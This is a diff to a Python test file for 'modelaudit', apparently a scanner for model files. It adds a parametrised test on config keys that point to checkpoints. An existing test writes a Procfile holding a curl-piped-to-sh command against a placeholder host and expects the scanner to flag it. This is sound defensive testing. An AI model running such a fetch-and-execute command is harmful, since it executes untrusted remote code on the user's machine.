@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import json
 import pickle
+import shutil
 from pathlib import Path
 
+import pytest
 from support.cases import check_each
+from support.fixtures import FIXTURES
 
 import modelaudit
 
@@ -74,3 +77,13 @@ def test_path_of_data_and_commands_of_a_procfile_are_read(tmp_path: Path) -> Non
     assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 0
     (tmp_path / "Procfile").write_text("web: curl https://a.invalid/x | sh\n")
     assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 1
+
+
+@pytest.mark.parametrize(
+    ("key", "name", "passes"), [("path", "a.pth", True), ("start", "a.pth", False), ("path", "a.sh", False)]
+)
+def test_checkpoint_behind_a_key_of_a_path_is_no_command(key: str, name: str, passes: bool, tmp_path: Path) -> None:
+    (tmp_path / "model_config.json").write_text(json.dumps({key: f"./{name}", "classes": 2}, indent=1))
+    shutil.copyfile(next((FIXTURES / "torch-zip/benign").glob("*.pt")), tmp_path / name)
+    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
+    assert (report.exit_code == 0) is passes
